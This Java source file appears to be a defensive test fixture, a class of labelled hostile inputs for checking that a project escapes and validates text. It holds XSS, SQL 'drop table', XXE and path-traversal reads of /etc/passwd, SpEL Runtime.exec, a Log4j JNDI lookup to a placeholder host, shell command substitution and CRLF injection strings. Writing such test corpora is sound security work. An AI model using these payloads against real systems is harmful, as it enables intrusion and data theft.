package org.anju;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import tools.jackson.databind.json.JsonMapper;

/// Texts that break what was not built for them: markup, other languages of computers, numbers at their edges,
/// characters that are rare, invisible or half.
public final class Hostile {

    /// Stands in every text of ours that would do harm: where it comes back raw, harm was done.
    public static final String MARK = "hostile7731";

    /// A product that only an evaluated expression yields.
    public static final String EVALUATED = String.valueOf(7_731L * 7_919L);

    private static final Path MORE =
            Path.of(System.getProperty("anju.shared", "../shared"), "data", "oversight", "blns.json");

    private Hostile() {}

    /// Our own, by what they try.
    public static final Map<String, String> TEXTS = Map.ofEntries(
            Map.entry("element", "<" + MARK + " onmouseover=alert(1)>"),
            Map.entry("out of an attribute", "\" " + MARK + "=\"1\" autofocus onfocus=\"alert(1)"),
            Map.entry("out of a single-quoted attribute", "' " + MARK + "='1' onfocus='alert(1)"),
            Map.entry("out of a script", "</script><" + MARK + ">"),
            Map.entry("out of a title", "</title></textarea></style><" + MARK + ">"),
            Map.entry("comment", "--><" + MARK + "><!--"),
            Map.entry("address that runs", "javascript:" + MARK + "()"),
            Map.entry("address elsewhere", "//" + MARK + ".example/%2e%2e"),
            Map.entry("address elsewhere, backslash", "/\\" + MARK + ".example"),
            Map.entry("entity already", "&lt;" + MARK + "&gt;&#60;" + MARK + "&#62;"),
            Map.entry("SQL", "'; drop table residents.stay; -- " + MARK),
            Map.entry("SQL pattern", "%_\\%" + MARK),
            Map.entry("SQL array", "{\"" + MARK + "\",NULL}"),
            Map.entry("JSON", "\"}],\"" + MARK + "\":[{\"a\":\""),
            Map.entry(
                    "XML", "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>"),
            Map.entry("expression", "${7731*7919}#{7731*7919}{{7731*7919}}@{7731*7919}%{7731*7919}"),
            Map.entry("class expression", "${T(java.lang.Runtime).getRuntime().exec('" + MARK + "')}"),
            Map.entry("log lookup", "${jndi:ldap://" + MARK + ".example/a}"),
            Map.entry("message format", "{0}{1}{99999}'{'" + MARK + "'"),
            Map.entry("printf", "%s%n%x%1$s%2147483647d" + MARK),
            Map.entry("formula", "=" + MARK + "|' /C calc'!A0"),
            Map.entry("shell", "$(touch " + MARK + ")`touch " + MARK + "`;|&"),
            Map.entry("file", "../../../../../../etc/passwd"),
            Map.entry("file, encoded", "..%2f..%2f..%252f" + MARK),
            Map.entry("line ends", "a\r\nSet-Cookie: " + MARK + "=1\r\n\r\n<" + MARK + ">"),
            Map.entry("zero", "a\u0000" + MARK),
            Map.entry("controls", "\u0001\u0007\b\u001b[31m" + MARK + "\u007f\u0085"),
            Map.entry("right to left", "\u202e" + MARK + "\u2066\u200f"),
            Map.entry("invisible", "\u200b\u200d\ufeff\u00ad\u2060"),
            Map.entry("half a character", "\ud83d" + MARK + "\udc00"),
            Map.entry("no character", "\ufffe\uffff" + new String(Character.toChars(0x10ffff))),
            Map.entry("beyond the first plane", "𠮷𡈽𪚥𬉼😀👨‍👩‍👧‍👦" + MARK),
            Map.entry("many marks", "a" + "\u0301\u0489".repeat(300)),
            Map.entry("grows when folded", "ﷺ".repeat(50) + "ŉǰΐİẞ"),
            Map.entry("digits of others", "٣٤٥１２３໑᠐〇𝟘"),
            Map.entry("whole number, too large", "9223372036854775808"),
            Map.entry("whole number, negative", "-1"),
            Map.entry("number", "1e400"),
            Map.entry("no number", "NaN"),
            Map.entry("date too late", "999999999-12-31"),
            Map.entry("no date", "2023-02-30"),
            Map.entry("date before all", "-0001-00-00"),
            Map.entry("key", "00000000-0000-0000-0000-000000000000"),
            Map.entry("long", (MARK + "长").repeat(800)),
            Map.entry("blank", " \t\u3000\u00a0"),
            Map.entry("empty", ""));

    /// The Big List of Naughty Strings, where it lies beside the project; else none.
    public static List<String> more() {
        if (!Files.isRegularFile(MORE)) {
            System.out.println("MORE HOSTILE TEXTS LEFT OUT: there is no " + MORE + ".");
            return List.of();
        }
        try {
            return List.of(JsonMapper.shared().readValue(Files.readString(MORE), String[].class));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
